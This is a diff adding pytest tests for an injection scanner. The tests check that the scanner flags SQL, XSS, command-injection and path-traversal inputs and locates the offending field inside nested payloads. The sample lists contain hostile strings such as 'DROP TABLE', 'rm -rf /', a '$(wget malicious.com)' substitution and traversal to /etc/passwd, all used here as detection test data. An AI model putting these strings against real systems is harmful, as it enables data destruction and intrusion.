@@ -0,0 +1,97 @@
+"""
+Tests for the compiled injection scanner behind InputValidator.
+"""
+
+import re
+import pytest
+
+from app.core.injection_scanner import DEFAULT_CATEGORIES, InjectionScanner
+
+
+SAMPLES = [
+    "normal user input",
+    "'; DROP TABLE users; --",
+    "1' OR '1'='1",
+    "or 1=1",
+    "Call xp_cmdshell now",
+    '<script>alert("XSS")</script>',
+    '<div onclick="alert()">Click me</div>',
+    "JavaScript:void(0)",
+    "<IMG src=x OnError=alert(1)>",
+    "test; rm -rf /",
+    "$(wget malicious.com)",
+    "CURL example.com",
+    "run bash -c",
+    "../../etc/passwd",
+    "..\\windows\\system32",
+    "%2E%2E/secret",
+    "report-2024.csv",
+    "Selection of items",
+    "",
+]
+
+
+def _loop_match(category, value):
+    """The original per-pattern check."""
+    patterns, ignore_case = DEFAULT_CATEGORIES[category]
+    if category == "sql":
+        value = value.lower()
+    flags = re.IGNORECASE if ignore_case else 0
+    return any(re.search(pattern, value, flags) for pattern in patterns)
+
+
+class TestInjectionScanner:
+    """Test parity with the pattern loops and payload scanning."""
+
+    @pytest.mark.parametrize("category", sorted(DEFAULT_CATEGORIES))
+    def test_matches_the_pattern_loop(self, category):
+        scanner = InjectionScanner()
+
+        for value in SAMPLES:
+            found = scanner.find(value, (category,))
+            assert (found == category) == _loop_match(category, value), value
+            assert found in (None, category)
+
+    def test_combined_scan_reports_the_matching_category(self):
+        scanner = InjectionScanner()
+        every = ("sql", "xss", "command", "path")
+
+        assert scanner.find("../../etc/passwd", ("sql", "path")) == "path"
+        assert scanner.find("javascript:alert", ("xss", "path")) == "xss"
+        assert scanner.find("plain words", every) is None
+        # Command patterns stay case-sensitive inside a combined regex
+        assert scanner.find("CURL", ("command",)) is None
+        assert scanner.find("curl", ("command",)) == "command"
+        # One compiled regex per set of categories, in any order
+        assert scanner.compiled(("path", "sql")) is scanner.compiled(["sql", "path"])
+
+        with pytest.raises(KeyError):
+            scanner.compiled(("ldap",))
+
+    def test_payload_scan_returns_the_first_offending_field(self):
+        scanner = InjectionScanner()
+        payload = {
+            "name": "Quarterly report",
+            "steps": [
+                {"type": "extract", "source": "orders.csv"},
+                {"type": "transform", "path": "../../etc/passwd"},
+                {"type": "load", "query": "x' OR 1=1"},
+            ],
+            "tags": ("etl", "daily"),
+            "limit": 10,
+        }
+
+        assert scanner.find_in(payload, ("sql", "path")) == ("path", "steps[1].path", "../../etc/passwd")
+        assert scanner.find_in(payload, ("sql",), path="body") == ("sql", "body.steps[2].query", "x' OR 1=1")
+        assert scanner.find_in({"<script>x</script>": 1}, ("xss",)) == ("xss", "<script>x</script>", "<script>x</script>")
+        assert scanner.find_in({"<script>x</script>": 1}, ("xss",), include_keys=False) is None
+        assert scanner.find_in("../x", ("path",)) == ("path", "input", "../x")
+        assert scanner.find_in({"clean": ["a", {"b": "c"}]}, ("sql", "xss", "command", "path")) is None
+
+    def test_deeply_nested_payloads_do_not_recurse(self):
+        scanner = InjectionScanner()
+        payload = "ok"
+        for _ in range(5000):
+            payload = {"child": [payload]}
+
+        assert scanner.find_in(payload, ("sql",)) is None